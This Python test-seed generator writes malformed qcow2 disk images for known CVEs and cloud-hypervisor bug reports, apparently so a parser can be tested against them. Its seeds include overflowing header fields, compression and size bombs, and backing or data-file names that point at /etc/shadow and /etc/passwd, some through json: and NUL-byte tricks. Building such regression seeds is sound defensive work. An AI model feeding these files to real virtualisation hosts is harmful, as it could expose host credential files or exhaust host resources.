# SPDX-License-Identifier: MIT
"""Hostile qcow2 and raw files behind the rows of the security table that touch these formats, built byte by byte.

SEEDS maps a name to (CVE or report, function that writes the file). Run as a program with a folder it writes them all.
"""
import os
import pathlib
import struct
import sys
import zlib

L2E_COPIED, L2E_COMPRESSED = 1 << 63, 1 << 62
BACKING_FORMAT, FEATURES, BITMAPS, CRYPTO, DATA_FILE = 0xE2792ACA, 0x6803F857, 0x23852875, 0x0537BE77, 0x44415441
FIELDS = {"magic": (0, ">I"), "version": (4, ">I"), "backing_off": (8, ">Q"), "backing_len": (16, ">I"), "cluster_bits": (20, ">I"),
          "size": (24, ">Q"), "crypt": (32, ">I"), "l1_size": (36, ">I"), "l1_off": (40, ">Q"), "rt_off": (48, ">Q"), "rt_clusters": (56, ">I"),
          "nb_snapshots": (60, ">I"), "snapshots_off": (64, ">Q"), "incompat": (72, ">Q"), "compat": (80, ">Q"), "autoclear": (88, ">Q"),
          "refcount_order": (96, ">I"), "header_len": (100, ">I")}
SEEDS = {}


class Image:
    """A sound image of 1 MiB with 64 KiB clusters: header, refcount table, block, L1, one L2 table, one data cluster."""

    def __init__(self, cluster_bits=16, clusters=6, **header):
        self.cs = 1 << cluster_bits
        self.data = bytearray(clusters * self.cs)
        self.ext_at = 112
        values = dict(magic=0x514649FB, version=3, cluster_bits=cluster_bits, size=1 << 20, l1_size=1, l1_off=3 * self.cs, rt_off=self.cs,
                      rt_clusters=1, refcount_order=4, header_len=112)
        self.header(**{**values, **header})
        self.be64(self.cs, 2 * self.cs)
        for c in range(clusters):
            self.put(2 * self.cs + 2 * c, struct.pack(">H", 1))
        self.be64(3 * self.cs, L2E_COPIED | 4 * self.cs)
        self.be64(4 * self.cs, L2E_COPIED | 5 * self.cs)
        self.put(5 * self.cs, b"x" * 512)

    def header(self, **values):
        for name, v in values.items():
            off, fmt = FIELDS[name]
            self.put(off, struct.pack(fmt, v))

    def put(self, off, data):
        self.data[off:off + len(data)] = data

    def be64(self, off, v):
        self.put(off, struct.pack(">Q", v))

    def extension(self, kind, data, length=None):
        self.put(self.ext_at, struct.pack(">II", kind, len(data) if length is None else length) + data)
        self.ext_at += 8 + -(-len(data) // 8) * 8

    def backing(self, name):
        at = self.cs - 2048 if self.cs > 4096 else self.ext_at + 16
        self.put(at, name)
        self.header(backing_off=at, backing_len=len(name))

    def write(self, path):
        pathlib.Path(path).write_bytes(self.data)


def seed(cve, name=None):
    def add(fn):
        SEEDS[name or fn.__name__] = (cve, fn)
        return fn
    return add


def header_seed(name, cve, **values):
    """A sound image with some header fields replaced."""
    def write(path):
        im = Image()
        im.header(**values)
        im.write(path)
    SEEDS[name] = (cve, write)


for _name, _values in {
        "cluster_bits_0": dict(cluster_bits=0), "cluster_bits_63": dict(cluster_bits=63), "cluster_bits_64": dict(cluster_bits=64),
        "cluster_bits_max": dict(cluster_bits=0xFFFFFFFF), "refcount_order_31": dict(refcount_order=31), "refcount_order_max": dict(refcount_order=0xFFFFFFFF),
        "header_len_max": dict(header_len=0xFFFFFFF8), "header_len_0": dict(header_len=0), "crypt_max": dict(crypt=0xFFFFFFFF),
        "backing_len_max": dict(backing_off=1024, backing_len=0xFFFFFFFF), "backing_off_max": dict(backing_off=1 << 63, backing_len=8),
        "snapshot_count_max": dict(nb_snapshots=0xFFFFFFFF, snapshots_off=65536), "snapshot_off_max": dict(nb_snapshots=1, snapshots_off=(1 << 64) - 65536),
        "incompat_all": dict(incompat=(1 << 64) - 1), "size_zero_l1_zero": dict(size=0, l1_size=0, l1_off=0)}.items():
    header_seed("2014_0144_" + _name, "CVE-2014-0144", **_values)
for _name, _values in {
        "l1_size_max": dict(l1_size=0xFFFFFFFF), "l1_size_wraps": dict(l1_size=0x20000001, size=1 << 60), "l1_off_wraps": dict(l1_off=(1 << 64) - 65536),
        "rt_clusters_max": dict(rt_clusters=0xFFFFFFFF), "rt_clusters_wraps": dict(rt_clusters=0x10000), "rt_off_wraps": dict(rt_off=(1 << 64) - 65536),
        "size_max": dict(size=(1 << 64) - 1), "size_2_63": dict(size=1 << 63)}.items():
    header_seed("2014_0143_" + _name, "CVE-2014-0143", **_values)


@seed("CVE-2014-0143")
def cve_2014_0143_cluster_index(path):
    """Entries whose cluster index is beyond every refcount table."""
    im = Image()
    im.be64(4 * im.cs, L2E_COPIED | ((1 << 56) - im.cs))
    im.be64(4 * im.cs + 8, L2E_COMPRESSED | (0xFF << 54) | ((1 << 54) - 1))
    im.write(path)


@seed("CVE-2014-0145")
def cve_2014_0145_snapshot_l1_larger(path):
    """A snapshot whose L1 table is larger than the active one."""
    im = Image(clusters=12, nb_snapshots=1, snapshots_off=6 << 16)
    im.put(6 << 16, struct.pack(">QIHHIIQII", 7 << 16, 40000, 1, 1, 0, 0, 0, 0, 16) + struct.pack(">QQ", 0, 1 << 20) + b"1s")
    for i in range(8192):
        im.be64((7 << 16) + 8 * i, 4 << 16)
    im.write(path)


@seed("CVE-2014-0146")
def cve_2014_0146_snapshots_without_table(path):
    im = Image(nb_snapshots=5, snapshots_off=0)
    im.write(path)


@seed("CVE-2014-0146")
def cve_2014_0146_snapshot_names_absurd(path):
    im = Image(clusters=8, nb_snapshots=2, snapshots_off=6 << 16)
    im.put(6 << 16, struct.pack(">QIHHIIQII", 3 << 16, 1, 0xFFFF, 0xFFFF, 0, 0, 0, 0, 0x400) + b"\xff" * 4096)
    im.write(path)


@seed("CVE-2014-0147")
def cve_2014_0147_refcounts_at_the_limit(path):
    im = Image()
    for c in range(6):
        im.put(2 * im.cs + 2 * c, b"\xff\xff")
    im.write(path)


@seed("CVE-2014-0147")
def cve_2014_0147_refcount_block_is_the_table(path):
    im = Image()
    for i in range(8192):
        im.be64(im.cs + 8 * i, im.cs)
    im.write(path)


@seed("CVE-2013-4463")
def cve_2013_4463_petabytes(path):
    """A file of some hundred bytes that claims 2 PB."""
    im = Image(size=1 << 51, l1_size=(1 << 51) >> 29, l1_off=3 << 16)
    im.write(path)
    os.truncate(path, (3 << 16) + ((1 << 51) >> 29) * 8)


@seed("CVE-2013-4463")
def cve_2013_4463_compression_bomb(path):
    """Every guest cluster of 256 GiB is the same 2 KiB of compressed zeros."""
    cb = 21
    cs = 1 << cb
    stream = zlib.compressobj(9, zlib.DEFLATED, -12)
    packed = stream.compress(bytes(cs)) + stream.flush()
    entries = cs // 8
    im = Image(cluster_bits=cb, clusters=6, size=entries * cs // 2)
    im.put(5 * cs, packed)
    sectors = -(-len(packed) // 512) - 1
    word = struct.pack(">Q", L2E_COMPRESSED | sectors << (62 - (cb - 8)) | 5 * cs)
    im.put(4 * cs, word * (entries // 2))
    im.write(path)


@seed("CVE-2013-4463")
def cve_2013_4463_all_l1_entries_alike(path):
    """4 million L1 entries that name one L2 table full of entries."""
    n = 1 << 22
    im = Image(clusters=6, size=1 << 50, l1_size=n, l1_off=6 << 16)
    im.put(4 << 16, struct.pack(">Q", 5 << 16) * 8192)
    im.write(path)
    with open(path, "r+b") as f:
        f.seek(6 << 16)
        f.write(struct.pack(">Q", 4 << 16) * n)


@seed("CVE-2013-4463")
def cve_2013_4463_snapshots_share_a_huge_l1(path):
    """1000 snapshots, each with the same L1 table of 2 MiB."""
    im = Image(clusters=8, nb_snapshots=1000, snapshots_off=6 << 16)
    entry = struct.pack(">QIHHIIQII", 8 << 16, 1 << 18, 4, 1, 0, 0, 0, 0, 16) + struct.pack(">QQ", 0, 1 << 20)
    table = b"".join((entry + b"%04ds" % i).ljust(64, b"\0") for i in range(1000))
    im.put(6 << 16, table[:2 << 16])
    im.write(path)
    with open(path, "r+b") as f:
        f.seek(8 << 16)
        f.write(struct.pack(">Q", 4 << 16) * (1 << 18))


@seed("CVE-2014-0222")
def cve_2014_0222_qcow1_l2_bits(path):
    """qcow version 1 with absurd table sizes: not a format of ours."""
    pathlib.Path(path).write_bytes(struct.pack(">IIQIIQBBHI", 0x514649FB, 1, 0, 0, 0, (1 << 64) - 1, 63, 63, 0, 0).ljust(65536, b"\0"))


@seed("CVE-2015-5163")
def cve_2015_5163_backing_is_a_host_file(path):
    im = Image()
    im.extension(BACKING_FORMAT, b"raw")
    im.backing(b"/etc/shadow")
    im.write(path)


@seed("CVE-2010-2238")
def cve_2010_2238_backing_without_format(path):
    im = Image()
    im.backing(b"/etc/passwd")
    im.write(path)


@seed("CVE-2024-32498")
def cve_2024_32498_data_file_is_a_host_file(path):
    im = Image(incompat=4)
    im.extension(DATA_FILE, b"/etc/shadow")
    im.write(path)


@seed("CVE-2024-4467")
def cve_2024_4467_json_backing(path):
    im = Image()
    im.extension(BACKING_FORMAT, b"raw")
    im.backing(b'json:{"driver":"qcow2","file":{"driver":"file","filename":"/etc/passwd"}}')
    im.write(path)


@seed("CVE-2024-4467")
def cve_2024_4467_json_data_file(path):
    im = Image(incompat=4)
    im.extension(DATA_FILE, b'json:{"driver":"raw","file":{"driver":"file","filename":"/etc/passwd"}}')
    im.write(path)


@seed("CVE-2024-4467")
def cve_2024_4467_nul_in_names(path):
    im = Image()
    im.extension(BACKING_FORMAT, b"raw")
    im.backing(b"/etc/passwd\0.qcow2")
    im.write(path)


def claims_a_terabyte(path, **header):
    """414 KiB that claim 1 TiB."""
    im = Image(clusters=7, size=1 << 40, l1_size=2048, **header)
    im.write(path)
    os.truncate(path, 414 << 10)


@seed("gh:cloud-hypervisor 29720f07a")
def ch_rebuild_sized_by_the_claim(path):
    claims_a_terabyte(path, incompat=1, rt_clusters=0)


@seed("gh:cloud-hypervisor 55fa8ac90")
def ch_header_extension_unbounded(path):
    im = Image()
    im.extension(0x12345678, b"", length=0xFFFFFFFF)
    im.write(path)


@seed("gh:cloud-hypervisor 55fa8ac90")
def ch_header_extensions_endless(path):
    im = Image(cluster_bits=21)
    for i in range(20000):
        im.extension(0x40000000 + i, b"")
    im.write(path)


@seed("gh:cloud-hypervisor a667d8505")
def ch_offset_past_the_refcounts(path):
    im = Image()
    im.be64(3 * im.cs, L2E_COPIED | 1 << 40)
    im.be64(4 * im.cs, L2E_COPIED | 1 << 41)
    im.write(path)


@seed("G.015")
def broken_bitmap_directory(path):
    im = Image(clusters=8, autoclear=1)
    im.extension(BITMAPS, struct.pack(">IIQQ", 65535, 0, 65535 * 32, 6 << 16))
    im.put(6 << 16, b"\xff" * 65536)
    im.write(path)


def main():
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, (_, write) in SEEDS.items():
        write(folder / name)


if __name__ == "__main__":
    main()
